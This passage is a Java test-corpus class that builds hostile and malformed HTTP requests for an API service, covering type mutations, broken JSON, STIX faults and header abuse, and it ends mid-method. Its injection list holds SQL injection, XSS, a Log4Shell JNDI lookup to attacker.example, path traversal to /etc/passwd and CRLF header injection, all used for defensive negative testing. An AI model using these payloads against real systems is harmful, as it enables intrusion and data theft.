package io.kakunin.service;

import io.kakunin.fixtures.Fixtures;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Hostile and malformed requests, generated from realistic ones: every field of a rich
 * product-security request, a structured sharing case and a STIX bundle is given the wrong
 * type, an out-of-range or malformed value, a control character, an injection string where the
 * contract constrains the value, or a string over the parser's limit; plus malformed JSON,
 * deep nesting, oversized bodies, broken STIX (dangling references, cycles), hostile query
 * parameters (unknown, misspelt, out of their enum), path segments and headers (bytes that are
 * not text, repeated single-valued headers, Accept headers that allow no answer), and requests
 * only a raw socket can send (headers and URLs over the size limit, CR or NUL in a header, an
 * encoded NUL in the path). Every one must be refused with a 4xx problem.
 */
final class HostileInputCorpus {

    /**
     * One request of the corpus. {@code headers} are name, value pairs sent with the test key
     * that has every role; a case with {@code rawLines} is sent over a plain socket exactly as
     * given instead ({@link RawHttp}): request line {@code method path HTTP/1.1}, then those
     * header lines, which carry their own credentials.
     */
    record Case(
            String name,
            String method,
            String path,
            String contentType,
            byte[] body,
            List<String> headers,
            List<String> rawLines) {

        Case(String name, String method, String path, String contentType, byte[] body, List<String> headers) {
            this(name, method, path, contentType, body, headers, null);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    static final String ASSESSMENTS = "/v1/assessments";
    static final String REVIEWS = "/v1/sharing-reviews";
    static final String WAIVERS = "/v1/waivers";
    /** A waiver that does not exist: what approvals and revocations of the corpus name. */
    static final String NO_WAIVER = WAIVERS + "/01936d3f-7a6c-7cc1-9a2e-3f1d2c4b5a69";

    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1' --",
            "\"; DROP TABLE assessment; --",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}",
            "../../../../etc/passwd",
            "{{7*7}}",
            "%00%0d%0aSet-Cookie: x=y");
    private static final JsonMapper JSON = JsonMapper.builder().build();
    /** Longer than the parser's limit on one string (kakunin.limits.max-string-length). */
    private static final String HUGE = "A".repeat(270_000);

    private final List<Case> cases = new ArrayList<>();

    private HostileInputCorpus() {}

    static List<Case> all() {
        HostileInputCorpus corpus = new HostileInputCorpus();
        corpus.fields(
                "assessment",
                ASSESSMENTS,
                fixture("product-security/scenario-smart-lock-from-a-well-run-sme-is-compliant"));
        corpus.fields(
                "structured share",
                REVIEWS,
                fixture("information-sharing/is-7-victim-in-text-accounts-and-location-is-redacted-everywhere"));
        corpus.fields(
                "STIX share",
                REVIEWS,
                fixture(
                        "information-sharing/scenario-bundle-whose-sighting-names-the-victim-company-shares-after-redaction"));
        corpus.fields("waiver", WAIVERS, waiver());
        corpus.waivers();
        corpus.malformedJson();
        corpus.nesting();
        corpus.stix();
        corpus.queries();
        corpus.paths();
        corpus.headersAndMethods();
        corpus.adminBodies();
        corpus.manyFaults();
        corpus.unknownParameters();
        corpus.asOfValues();
        corpus.acceptHeaders();
        corpus.headerBytes();
        corpus.repeatedHeaders();
        corpus.whatOnlyASocketSends();
        return List.copyOf(corpus.cases);
    }

    private static ObjectNode fixture(String name) {
        try {
            return (ObjectNode) JSON.readTree(Files.readString(Fixtures.root().resolve(name + "/request.json")));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void post(String name, String path, String body, String... headers) {
        cases.add(new Case(
                name, "POST", path, "application/json", body.getBytes(StandardCharsets.UTF_8), List.of(headers)));
    }

    private void post(String name, String path, JsonNode body) {
        post(name, path, body.toString());
    }

    // ------------------------------------------------------------------ every field

    /**
     * Mutations of every leaf of a realistic request, each on its own copy, chosen by what the
     * contract says the field is: an enum gets unknown values, a date impossible dates, a
     * constrained string (pattern, enum, format) injection strings, a bounded one a string one
     * character too long, a number values out of its range and of the wrong kind.
     */
    private void fields(String label, String path, ObjectNode request) {
        String root = path.equals(ASSESSMENTS)
                ? "AssessmentRequest"
                : path.equals(WAIVERS) ? "WaiverRequest" : "SharingReviewRequest";
        List<String> pointers = new ArrayList<>();
        leaves(request, "", pointers);
        for (String pointer : pointers) {
            JsonNode value = request.at(pointer);
            boolean inStix = pointer.startsWith("/stix/");
            String field = pointer.substring(pointer.lastIndexOf('/') + 1);
            JsonNode schema = inStix ? null : Contract.schemaAt(root, pointer);
            if (value.isString()) {
                String text = value.asString();
                post(
                        label + ": NUL in " + pointer,
                        path,
                        with(request, pointer, JsonNodeFactory.instance.stringNode(text + "\u0000x")));
                post(
                        label + ": escape sequence in " + pointer,
                        path,
                        with(request, pointer, JsonNodeFactory.instance.stringNode("\u001b[2J" + text)));
                if (inStix) {
                    continue;
                }
                post(
                        label + ": number for the string " + pointer,
                        path,
                        with(request, pointer, JsonNodeFactory.instance.numberNode(12345)));
                post(
                        label + ": boolean for the string " + pointer,
                        path,
                        with(request, pointer, JsonNodeFactory.instance.booleanNode(true)));
                boolean isEnum = schema.has("enum");
                String format = schema.path("format").asString("");
                if (isEnum) {
                    post(
                            label + ": unknown value of " + pointer,
                            path,
                            with(request, pointer, JsonNodeFactory.instance.stringNode(text + "_OR_ELSE")));
                    post(
                            label + ": value of " + pointer + " in lower case",
                            path,
                            with(request, pointer, JsonNodeFactory.instance.stringNode(text.toLowerCase())));
                }
                if (format.equals("date")) {
                    post(
                            label + ": 30 February in " + pointer,
                            path,
                            with(request, pointer, JsonNodeFactory.instance.stringNode("2026-02-30")));
                    post(
                            label + ": a date without zeros in " + pointer,
                            path,
                            with(request, pointer, JsonNodeFactory.instance.stringNode("2026-1-5")));
                }
                if (format.equals("date-time")) {
                    post(
                            label + ": a time without offset in " + pointer,
                            path,
                            with(request, pointer, JsonNodeFactory.instance.stringNode("2026-11-18T02:10:00")));
                    post(
                            label + ": hour 25 in " + pointer,
                            path,
                            with(request, pointer, JsonNodeFactory.instance.stringNode("2026-11-18T25:10:00Z")));
                }
                if (isEnum || schema.has("pattern") || !format.isEmpty()) {
                    for (String injection : INJECTIONS.subList(0, 4)) {
                        if (!isEnum
                                && format.isEmpty()
                                && java.util.regex.Pattern.compile(
                                                schema.path("pattern").asString())
                                        .matcher(injection)
                                        .find()) {
                            continue; // free text that need only be visible takes these as text, bound as such
                        }
                        post(
                                label + ": injection " + injection + " in " + pointer,
                                path,
                                with(request, pointer, JsonNodeFactory.instance.stringNode(injection)));
                    }
                }
                if (schema.has("maxLength")) {
                    post(
                            label + ": " + pointer + " one character over its limit",
                            path,
                            with(
                                    request,
                                    pointer,
                                    JsonNodeFactory.instance.stringNode(
                                            "a".repeat(schema.path("maxLength").asInt() + 1))));
                }
            } else if (value.isNumber()) {
                boolean boundedStix = inStix
                        && List.of("confidence", "count", "number_observed").contains(field);
                if (inStix && !boundedStix) {
                    continue;
                }
                post(
                        label + ": string for the number " + pointer,
                        path,
                        with(request, pointer, JsonNodeFactory.instance.stringNode(value.asString())));
                post(label + ": 1e400 for " + pointer, path, raw(request, pointer, "1e400"));
                post(
                        label + ": 40 digits for " + pointer,
                        path,
                        raw(request, pointer, "1234567890123456789012345678901234567890"));
                post(label + ": 200 digits for " + pointer, path, raw(request, pointer, "9".repeat(200)));
                post(label + ": a fraction for " + pointer, path, raw(request, pointer, "1.5"));
                if (schema != null && schema.has("minimum")) {
                    post(
                            label + ": " + pointer + " under its minimum",
                            path,
                            with(
                                    request,
                                    pointer,
                                    JsonNodeFactory.instance.numberNode(
                                            schema.path("minimum").asLong() - 1)));
                }
                if (schema != null && schema.has("maximum")) {
                    post(
                            label + ": " + pointer + " over its maximum",
                            path,
                            with(
                                    request,
                                    pointer,
                                    JsonNodeFactory.instance.numberNode(
                                            schema.path("maximum").asLong() + 1)));
                }
                if (boundedStix) {
                    post(
                            label + ": " + pointer + " out of STIX's range",
                            path,
                            with(request, pointer, JsonNodeFactory.instance.numberNode(-1)));
                }
            } else if (value.isBoolean() && !inStix) {
                post(
                        label + ": string for the boolean " + pointer,
                        path,
                        with(request, pointer, JsonNodeFactory.instance.stringNode("true")));
                post(
                        label + ": number for the boolean " + pointer,
                        path,
                        with(request, pointer, JsonNodeFactory.instance.numberNode(1)));
            }
        }
        List<String> containers = new ArrayList<>();
        containers(request, "", containers);
        for (String pointer : containers) {
            if (pointer.startsWith("/stix/") || pointer.equals("/stix")) {
                continue;
            }
            JsonNode node = request.at(pointer);
            if (node.isObject()) {
                ObjectNode copy = request.deepCopy();
                ((ObjectNode) copy.at(pointer)).put("injected" + "Field", "' OR 1=1");
                post(label + ": unknown field in " + (pointer.isEmpty() ? "/" : pointer), path, copy);
                if (!pointer.isEmpty()) {
                    post(
                            label + ": array for the object " + pointer,
                            path,
                            with(request, pointer, JsonNodeFactory.instance.arrayNode()));
                }
            } else if (node.isArray()) {
                post(
                        label + ": object for the array " + pointer,
                        path,
                        with(request, pointer, JsonNodeFactory.instance.objectNode()));
                ArrayNode grown = JsonNodeFactory.instance.arrayNode();
                for (int i = 0; i < 10_001; i++) {
                    grown.add(
                            node.isEmpty()
                                    ? JsonNodeFactory.instance.nullNode()
                                    : node.get(0).deepCopy());
                }
                if (grown.toString().length() < 900_000) {
                    post(label + ": 10,001 elements in " + pointer, path, with(request, pointer, grown));
                }
            }
        }
        post(
                label + ": a string over the parser's limit",
                path,
                with(
                        request,
                        "/" + request.properties().iterator().next().getKey(),
                        JsonNodeFactory.instance.stringNode(HUGE)));
    }

    private static void leaves(JsonNode node, String at, List<String> out) {
        if (node.isObject()) {
            for (Map.Entry<String, JsonNode> e : node.properties()) {
                leaves(e.getValue(), at + "/" + e.getKey().replace("~", "~0").replace("/", "~1"), out);
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                leaves(node.get(i), at + "/" + i, out);
            }
        } else if (!node.isNull()) {
            out.add(at);
        }
    }

    private static void containers(JsonNode node, String at, List<String> out) {
        if (node.isContainer()) {
            out.add(at);
            Iterator<Map.Entry<String, JsonNode>> fields =
                    node.isObject() ? node.properties().iterator() : java.util.Collections.emptyIterator();
            while (fields.hasNext()) {
                Map.Entry<String, JsonNode> e = fields.next();
                containers(e.getValue(), at + "/" + e.getKey(), out);
            }
            if (node.isArray() && !node.isEmpty()) {
                containers(node.get(0), at + "/0", out);
            }
        }
    }

    private static ObjectNode with(ObjectNode request, String pointer, JsonNode value) {
        ObjectNode copy = request.deepCopy();
        String parent = pointer.substring(0, pointer.lastIndexOf('/'));
        String last = pointer.substring(pointer.lastIndexOf('/') + 1)
                .replace("~1", "/")
                .replace("~0", "~");
        JsonNode container = parent.isEmpty() ? copy : copy.at(parent);
        if (container instanceof ObjectNode o) {
            o.set(last, value);
        } else if (container instanceof ArrayNode a) {
            a.set(Integer.parseInt(last), value);
        }
        return copy;
    }

    /** A copy whose value at the pointer is replaced by raw JSON text (numbers Jackson's tree cannot hold). */
    private static String raw(ObjectNode request, String pointer, String json) {
        String marker = "\"__raw_marker__\"";
        return with(request, pointer, JsonNodeFactory.instance.stringNode("__raw_marker__"))
                .toString()
                .replace(marker, json);
    }

    // ------------------------------------------------------------------ malformed JSON

    private void malformedJson() {
        String good =
                fixture("product-security/ps-4.2-shared-default-password-fails").toString();
        for (int i = 1; i <= 12; i++) {
            int cut = good.length() * i / 13;
            post("truncated at " + cut + " of " + good.length() + " bytes", ASSESSMENTS, good.substring(0, cut));
        }
        String[][] broken = {
            {"single quotes", "{'organization':{},'products':[{}]}"},
            {"a trailing comma", "{\"organization\":{},\"products\":[{}],}"},
            {"a comment", "{/* hi */\"organization\":{},\"products\":[{}]}"},
            {"NaN", "{\"organization\":{\"monitoringIntervalDays\":NaN},\"products\":[{}]}"},
            {"Infinity", "{\"organization\":{\"monitoringIntervalDays\":Infinity},\"products\":[{}]}"},
            {"a leading zero", "{\"organization\":{\"monitoringIntervalDays\":007},\"products\":[{}]}"},
            {"a plus sign", "{\"organization\":{\"monitoringIntervalDays\":+7},\"products\":[{}]}"},
            {"a bare word", "{\"organization\":{\"id\":acme},\"products\":[{}]}"},
            {"an unterminated string", "{\"organization\":{\"id\":\"acme},\"products\":[{}]}"},
            {"a raw newline in a string", "{\"organization\":{\"id\":\"ac\nme\"},\"products\":[{}]}"},
            {"a bad escape", "{\"organization\":{\"id\":\"\\x41\"},\"products\":[{}]}"},
            {"a lone surrogate escape", "{\"organization\":{\"name\":\"\\ud800\"},\"products\":[{}]}"},
            {
                "duplicate fields",
                "{\"organization\":{},\"products\":[{\"defaultPasswordPolicy\":\"SHARED\",\"defaultPasswordPolicy\":\"UNIQUE_PER_DEVICE\"}]}"
            },
            {"two documents", "{\"organization\":{},\"products\":[{}]}{\"organization\":{},\"products\":[{}]}"},
            {"garbage after the document", "{\"organization\":{},\"products\":[{}]} ;DROP TABLE assessment"},
            {"a JSON string", "\"organization\""},
            {"a JSON number", "42"},
            {"JSON null", "null"},
            {"an empty object", "{}"},
            {"an empty body", ""},
            {"whitespace only", "   \n  "},
            {"XML", "<assessment><organization/></assessment>"},
            {"a field name over the limit", "{\"" + "k".repeat(2000) + "\":1,\"organization\":{},\"products\":[{}]}"},
        };
        for (String[] b : broken) {
            post("malformed JSON: " + b[0], ASSESSMENTS, b[1]);
            post(
                    "malformed JSON in a share: " + b[0],
                    REVIEWS,
                    b[1].replace("organization", "sharer").replace("products", "recipients"));
        }
        cases.add(new Case(
                "invalid UTF-8 bytes",
                "POST",
                ASSESSMENTS,
                "application/json",
                new byte[] {
                    '{',
                    '"',
                    'o',
                    'r',
                    'g',
                    'a',
                    'n',
                    'i',
                    'z',
                    'a',
                    't',
                    'i',
                    'o',
                    'n',
                    '"',
                    ':',
                    '{',
                    '"',
                    'i',
                    'd',
                    '"',
                    ':',
                    '"',
                    (byte) 0xC3,
                    (byte) 0x28,
                    '"',
                    '}',
                    ',',
                    '"',
                    'p',
                    'r',
                    'o',
                    'd',
                    'u',
                    'c',
                    't',
                    's',
                    '"',
                    ':',
                    '[',
                    '{',
                    '}',
                    ']',
                    '}'
                },
                List.of()));
        post(
                "a body over the size limit",
                ASSESSMENTS,
                "{\"organization\":{\"name\":\"" + "x".repeat(1_100_000) + "\"},\"products\":[{}]}");
    }

    private void nesting() {
        post(
                "arrays nested 200 deep in a STIX property",
                REVIEWS,
                "{\"sharer\":{},\"recipients\":[{}],\"stix\":{\"type\":\"bundle\",\"x\":" + "[".repeat(200)
                        + "]".repeat(200) + "}}");
        post(
                "objects nested 200 deep in a STIX property",
                REVIEWS,
                "{\"sharer\":{},\"recipients\":[{}],\"stix\":{\"type\":\"bundle\",\"x\":" + "{\"a\":".repeat(200) + "1"
                        + "}".repeat(200) + "}}");
        post("arrays nested 100,000 deep", ASSESSMENTS, "[".repeat(100_000) + "]".repeat(100_000));
        post(
                "arrays nested 70 deep in a product list",
                ASSESSMENTS,
                "{\"organization\":{},\"products\":" + "[".repeat(70) + "]".repeat(70) + "}");
    }

    // ------------------------------------------------------------------ STIX

    private void stix() {
        ObjectNode request = fixture(
                "information-sharing/scenario-bundle-whose-sighting-names-the-victim-company-shares-after-redaction");
        ArrayNode objects = (ArrayNode) request.at("/stix/objects");
        String first = objects.get(0).path("id").asString();
        for (int i = 0; i < objects.size(); i++) {
            JsonNode o = objects.get(i);
            String type = o.path("type").asString();
            ObjectNode dangling = request.deepCopy();
            // A marking the bundle does not define cannot be honoured (who made an object may be named from outside).
            ((ObjectNode) dangling.at("/stix/objects/" + i))
                    .putArray("object_marking_refs")
                    .add("marking-definition--00000000-0000-4000-8000-000000000000");
            post("STIX: dangling object_marking_refs on " + type, REVIEWS, dangling);
            ObjectNode self = request.deepCopy();
            ((ObjectNode) self.at("/stix/objects/" + i))
                    .putArray("object_refs")
                    .add(o.path("id").asString());
            if (!"report".equals(type) && !"grouping".equals(type) && !"note".equals(type) && !"opinion".equals(type)) {
                ((ObjectNode) self.at("/stix/objects/" + i))
                        .put("sample_ref", o.path("id").asString());
            }
            post("STIX: " + type + " referring to itself", REVIEWS, self);
            for (String required : List.of("type", "id", "spec_version", "created")) {
                if (!"marking-definition".equals(type) || !required.equals("created")) {
                    ObjectNode missing = request.deepCopy();
                    ((ObjectNode) missing.at("/stix/objects/" + i)).remove(required);
                    post("STIX: " + type + " without " + required, REVIEWS, missing);
                }
            }
            ObjectNode badId = request.deepCopy();
            ((ObjectNode) badId.at("/stix/objects/" + i)).put("id", type + "--not-a-uuid");
            post("STIX: " + type + " with a malformed id", REVIEWS, badId);
        }
        String report =
                "{\"type\":\"report\",\"spec_version\":\"2.1\",\"id\":\"%s\",\"created\":\"2026-11-18T03:00:00.000Z\","
                        + "\"modified\":\"2026-11-18T03:00:00.000Z\",\"name\":\"r\",\"published\":\"2026-11-18T03:00:00Z\",\"object_refs\":[\"%s\",\"%s\"]}";
        String r1 = "report--0c9e2e1c-0d7b-4d43-8a39-5f44c3a3e0a1";
        String r2 = "report--1c9e2e1c-0d7b-4d43-8a39-5f44c3a3e0a2";
        ObjectNode cycle = request.deepCopy();
        ((ArrayNode) cycle.at("/stix/objects")).add(JSON.readTree(String.format(report, r1, first, r2)));
        ((ArrayNode) cycle.at("/stix/objects")).add(JSON.readTree(String.format(report, r2, first, r1)));
        post("STIX: reports containing each other", REVIEWS, cycle);
        ObjectNode duplicate = request.deepCopy();
        ((ArrayNode) duplicate.at("/stix/objects")).add(objects.get(0).deepCopy());
        ObjectNode notBundle = request.deepCopy();
        ((ObjectNode) notBundle.at("/stix")).put("type", "report");
        post("STIX: not a bundle", REVIEWS, notBundle);
        ObjectNode notObjects = request.deepCopy();
        ((ObjectNode) notObjects.at("/stix")).put("objects", "everything");
        post("STIX: objects is not a list", REVIEWS, notObjects);
        ObjectNode scalarObject = request.deepCopy();
        ((ArrayNode) scalarObject.at("/stix/objects")).add(42);
        post("STIX: a number among the objects", REVIEWS, scalarObject);
        ObjectNode badPattern = request.deepCopy();
        for (JsonNode o : (ArrayNode) badPattern.at("/stix/objects")) {
            if (o.has("pattern")) {
                ((ObjectNode) o).put("pattern", "[ipv4-addr:value = '203.0.113.45'");
            }
        }
        post("STIX: a malformed pattern", REVIEWS, badPattern);
        ObjectNode both = request.deepCopy();
        both.putArray("items").addObject().put("value", "203.0.113.45");
        post("STIX and items at once", REVIEWS, both);
        ObjectNode tooMany = request.deepCopy();
        ArrayNode many = JsonNodeFactory.instance.arrayNode();
        for (int i = 0; i < 10_001; i++) {
            many.add(i);
        }
        ((ObjectNode) tooMany.at("/stix")).set("x_counts", many);
        post("STIX: a custom array of 10,001 elements", REVIEWS, tooMany);
    }

    // ------------------------------------------------------------------ waivers

    /** A waiver request the service takes (201): the base of the waiver cases, each of which breaks it. */
    static ObjectNode waiver() {
        return (ObjectNode)
                JSON.readTree(
                        "{\"organizationId\":\"acme-iot\",\"productId\":\"cam-100\","
                                + "\"recommendationId\":\"PS-4.2\",\"justification\":\"Legacy hardware; replaced in March 2027.\","
                                + "\"evidence\":\"https://grc.example.jp/risk-register/RA-2026-114\","
                                + "\"startsAt\":\"2026-12-01T00:00:00+09:00\",\"expiresOn\":\"2099-03-31\",\"timeZone\":\"Asia/Tokyo\"}");
    }

    private static byte[] goodWaiver() {
        return waiver().toString().getBytes(StandardCharsets.UTF_8);
    }

    /**
     * What the schema cannot refuse of a waiver (its scope, its expiry, its time zone, its order in
     * time), approvals and revocations of waivers that do not exist or with bodies that break the
     * contract, and hostile listings.
     */
    private void waivers() {
        ObjectNode both = waiver();
        both.put("measure", "PS-4");
        post("waiver: a recommendation and a measure", WAIVERS, both);
        ObjectNode neither = waiver();
        neither.remove("recommendationId");
        post("waiver: neither a recommendation nor a measure", WAIVERS, neither);
        ObjectNode twoExpiries = waiver();
        twoExpiries.put("expiresAt", "2099-03-31T15:00:00Z");
        post("waiver: an instant and a day of expiry", WAIVERS, twoExpiries);
        ObjectNode noExpiry = waiver();
        noExpiry.remove("expiresOn");
        noExpiry.remove("timeZone");
        post("waiver: no expiry", WAIVERS, noExpiry);
        ObjectNode noZone = waiver();
        noZone.remove("timeZone");
        post("waiver: a day of expiry without its time zone", WAIVERS, noZone);
        for (String zone : List.of("Mars/Olympus_Mons", "Asia/Tokyo/..", "EST5EDT-", "GMT+25", "Etc/GMT+99")) {
            ObjectNode unknown = waiver();
            unknown.put("timeZone", zone);
            post("waiver: the time zone " + zone, WAIVERS, unknown);
        }
        ObjectNode backwards = waiver();
        backwards.put("expiresOn", "2026-11-30");
        post("waiver: an expiry before its start", WAIVERS, backwards);
        ObjectNode atStart = waiver();
        atStart.remove("expiresOn");
        atStart.remove("timeZone");
        atStart.put("expiresAt", "2026-11-30T15:00:00Z");
        post("waiver: an expiry at the instant of its start", WAIVERS, atStart);
        ObjectNode everything = waiver();
        everything.put("measure", "PS-4");
        everything.put("expiresAt", "2026-11-30T15:00:00Z");
        everything.put("timeZone", "Mars/Olympus_Mons");
        for (String language : List.of("en", "ja", "zh-TW")) {
            post(
                    "waiver: every fault at once, in " + language,
                    WAIVERS,
                    everything.toString(),
                    "Accept-Language",
                    language);
        }
        ObjectNode approved = waiver();
        approved.put("approvedBy", "key:01936d41-5c6d-7e8f-9a0b-1c2d3e4f5a6b");
        post("waiver: approved by its own request", WAIVERS, approved);
        ObjectNode status = waiver();
        status.put("status", "APPROVED");
        post("waiver: a status in the request", WAIVERS, status);
        ObjectNode blank = waiver();
        blank.put("justification", " \t ");
        post("waiver: a justification of white space", WAIVERS, blank);
        ObjectNode empty = waiver();
        empty.put("evidence", "");
        post("waiver: empty evidence", WAIVERS, empty);

        // Approvals and revocations: of no waiver, of something that is not an id, with bodies that break the contract.
        cases.add(new Case(
                "approval of a waiver that does not exist", "POST", NO_WAIVER + "/approval", null, null, List.of()));
        post("revocation of a waiver that does not exist", NO_WAIVER + "/revocation", "{\"reason\":\"gone\"}");
        for (String injection : INJECTIONS) {
            String encoded = java.net.URLEncoder.encode(injection, StandardCharsets.UTF_8)
                    .replace("+", "%20");
            cases.add(new Case("waiver id " + injection, "GET", WAIVERS + "/" + encoded, null, null, List.of()));
            cases.add(new Case(
                    "approval of the waiver id " + injection,
                    "POST",
                    WAIVERS + "/" + encoded + "/approval",
                    null,
                    null,
                    List.of()));
        }
        for (String[] body : new String[][] {
            {"{}", "no reason"},
            {"{\"reason\":\"\"}", "an empty reason"},
            {"{\"reason\":\"   \"}", "a reason of spaces"},
            {"{\"reason\":42}", "a number for the reason"},
            {"{\"reason\":\"gone\",\"revokedBy\":\"key:someone-else\"}", "who revoked it, forged"},
            {"{\"reason\":\"" + "r".repeat(2001) + "\"}", "a reason one character over its limit"},
            {"{\"reason\":\"gone\u0000\"}", "a NUL in the reason"},
            {"[\"gone\"]", "an array for the body"},
        }) {
            post("revocation with " + body[1], NO_WAIVER + "/revocation", body[0]);
        }
        cases.add(new Case(
                "revocation without a body", "POST", NO_WAIVER + "/revocation", "application/json", null, List.of()));
        cases.add(new Case(
                "revocation as text",
                "POST",
                NO_WAIVER + "/revocation",
                "text/plain",
                "gone".getBytes(StandardCharsets.UTF_8),
                List.of()));

        // Listings.
        for (String[] q : new String[][] {
            {"status=SOMETIMES", "a status that is not one"},
            {"status=approved", "a status in lower case"},
            {"measure=PS-4.2", "a recommendation as the measure"},
            {"recommendationId=PS-4", "a measure as the recommendation"},
            {"organizationId=acme%20corp", "an organization with a space"},
            {"limit=0", "a limit of 0"},
            {"limit=201", "a limit over 200"},
            {"cursor=AAAA", "a cursor no page gave"},
            {"outcome=FAIL", "an assessment filter"},
            {"createdFrom=2026-11-01T00:00:00Z", "a time window"},
            {"requestedBy=key:someone", "a requester filter"},
            {"status=APPROVED&status=REVOKED", "a status given twice"},
        }) {
            cases.add(new Case("waiver listing: " + q[1], "GET", WAIVERS + "?" + q[0], null, null, List.of()));
        }

        // Good requests that must still be refused for what comes with them.
        cases.add(new Case(
                "Idempotency-Key on a good waiver request",
                "POST",
                WAIVERS,
                "application/json",
                goodWaiver(),
                List.of("Idempotency-Key", "waiver-1")));
        cases.add(new Case(
                "unknown parameter on a good waiver request",
                "POST",
                WAIVERS + "?approve=true",
                "application/json",
                goodWaiver(),
                List.of()));
        for (String type : List.of("text/plain", "application/x-www-form-urlencoded")) {
            cases.add(new Case(
                    "content type " + type + " on a good waiver request",
                    "POST",
                    WAIVERS,
                    type,
                    goodWaiver(),
                    List.of()));
        }
        cases.add(new Case(
                "Accept application/problem+json on a good waiver request",
                "POST",
                WAIVERS,
                "application/json",
                goodWaiver(),
                List.of("Accept", "application/problem+json")));
        for (String method : List.of("PUT", "PATCH", "DELETE")) {
            cases.add(
                    new Case(method + " on a waiver", method, NO_WAIVER, "application/json", goodWaiver(), List.of()));
        }
        raw(
                "an ADMIN-only key minting a RISK_OWNER key",
                "POST",
                "/v1/api-keys",
                "{\"name\":\"risk\",\"roles\":[\"RISK_OWNER\"]}".getBytes(StandardCharsets.UTF_8),
                "X-API-Key: " + TestKeys.ADMIN,
                "Content-Type: application/json");
        raw(
                "a SUBMITTER approving a waiver",
                "POST",
                NO_WAIVER + "/approval",
                null,
                "X-API-Key: " + TestKeys.SUBMITTER_A);
        raw(
                "a good waiver request without credentials",
                "POST",
                WAIVERS,
                goodWaiver(),
                "Content-Type: application/json");
    }

    // ------------------------------------------------------------------ queries, paths, headers

    private void queries() {
        List<String> params = List.of(
                "organizationId",
                "productId",
                "failedRecommendation",
                "rulesetRevision",
                "createdFrom",
                "createdTo",
                "limit",
                "cursor",
                "outcome");
        for (String param : params) {
            for (String injection : INJECTIONS) {
                String encoded = java.net.URLEncoder.encode(injection, StandardCharsets.UTF_8);
                cases.add(new Case(
                        "query " + param + "=" + injection,
                        "GET",
                        ASSESSMENTS + "?" + param + "=" + encoded,
                        null,
                        null,
                        List.of()));
            }
        }
        for (String[] q : new String[][] {
            {"limit", "0"},
            {"limit", "201"},
            {"limit", "-5"},
            {"limit", "1e3"},
            {"limit", "99999999999"},
            {"createdFrom", "2026-13-01T00:00:00Z"},
            {"createdTo", "yesterday"},
            {"outcome", "compliant"},
            {"cursor", "AAAA"},
            {"decision", "SHARE_EVERYTHING"},
            {"organizationId", ""}
        }) {
            String path = (q[0].equals("decision") ? REVIEWS : ASSESSMENTS) + "?" + q[0] + "=" + q[1];
            cases.add(new Case("query " + q[0] + "=" + q[1], "GET", path, null, null, List.of()));
        }
        cases.add(new Case("query limit given twice", "GET", ASSESSMENTS + "?limit=1&limit=x", null, null, List.of()));
    }

    private void paths() {
        for (String injection : INJECTIONS) {
            String encoded = java.net.URLEncoder.encode(injection, StandardCharsets.UTF_8)
                    .replace("+", "%20");
            cases.add(
                    new Case("assessment id " + injection, "GET", ASSESSMENTS + "/" + encoded, null, null, List.of()));
            cases.add(new Case("review id " + injection, "GET", REVIEWS + "/" + encoded, null, null, List.of()));
            cases.add(new Case(
                    "recommendation id " + injection, "GET", "/v1/recommendations/" + encoded, null, null, List.of()));
        }
        cases.add(new Case(
                "an unknown assessment",
                "GET",
                ASSESSMENTS + "/01936d3f-7a6c-7cc1-9a2e-3f1d2c4b5a69",
                null,
                null,
                List.of()));
        cases.add(new Case(
                "an encoded slash in an id", "GET", ASSESSMENTS + "/..%2F..%2Fetc%2Fpasswd", null, null, List.of()));
    }

    private void headersAndMethods() {
        String good =
                fixture("product-security/ps-4.2-shared-default-password-fails").toString();
        post("an Idempotency-Key of 201 characters", ASSESSMENTS, good, "Idempotency-Key", "k".repeat(201));
        post("an Idempotency-Key with spaces", ASSESSMENTS, good, "Idempotency-Key", "a key with spaces");
        for (String type : List.of(
                "text/plain",
                "application/xml",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x")) {
            cases.add(new Case(
                    "content type " + type,
                    "POST",
                    ASSESSMENTS,
                    type,
                    good.getBytes(StandardCharsets.UTF_8),
                    List.of()));
        }
        cases.add(new Case(
                "no content type", "POST", ASSESSMENTS, null, good.getBytes(StandardCharsets.UTF_8), List.of()));
        for (String method : List.of("PUT", "PATCH", "DELETE")) {
            cases.add(new Case(
                    method + " on the assessments",
                    method,
                    ASSESSMENTS,
                    "application/json",
                    good.getBytes(StandardCharsets.UTF_8),
                    List.of()));
        }
        cases.add(new Case(
                "no credentials",
                "POST",
                ASSESSMENTS,
                "application/json",
                good.getBytes(StandardCharsets.UTF_8),
                List.of("X-API-Key", "")));
    }

    // ------------------------------------------------------------------ what the contract does not declare

    static final String BATCH = "/v1/assessments:batch";

    private static byte[] goodAssessment() {
        return fixture("product-security/ps-4.2-shared-default-password-fails")
                .toString()
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] goodShare() {
        return fixture("information-sharing/is-7-victim-in-text-accounts-and-location-is-redacted-everywhere")
                .toString()
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] goodBatch() {
        String line =
                fixture("product-security/ps-4.2-shared-default-password-fails").toString();
        return (line + "\n" + line + "\n").getBytes(StandardCharsets.UTF_8);
    }

    /**
     * Bad {@code asOf} and {@code allowPast} values on good requests and batches: not instants,
     * instants without an offset, impossible dates, and instants in the past without the explicit
     * permission (issue 18: back-dating is refused unless asked for); each a 400 naming the parameter.
     */
    private void asOfValues() {
        String[][] values = {
            {"asOf=yesterday", "a word"},
            {"asOf=2024-04-28T23%3A00%3A00", "an instant without an offset"},
            {"asOf=2024-04-28", "a date alone"},
            {"asOf=2024-13-01T00%3A00%3A00Z", "a month that does not exist"},
            {"asOf=2024-02-30T00%3A00%3A00Z", "a day that does not exist"},
            {"asOf=1970-01-01T00%3A00%3A00Z", "the epoch, in the past, without allowPast"},
            {"asOf=2024-04-28T23%3A00%3A00%2B09%3A00&allowPast=false", "the past with allowPast=false"},
